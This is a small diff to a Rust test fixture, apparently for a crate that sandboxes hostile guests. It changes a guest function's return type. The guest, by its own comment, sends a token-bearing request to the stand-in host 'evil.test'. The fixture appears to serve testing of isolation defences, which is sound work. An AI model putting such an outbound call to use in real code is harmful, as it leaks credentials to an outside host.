@@ -1,9 +1,9 @@
 //! Asks another host, with the token.
 
-use hostile_guests::{Request, attack};
+use hostile_guests::{Request, Told, attack};
 
 attack!(run);
 
-fn run(_: String) -> String {
+fn run(_: String) -> Told {
     Request::get().to("evil.test").outcome()
 }
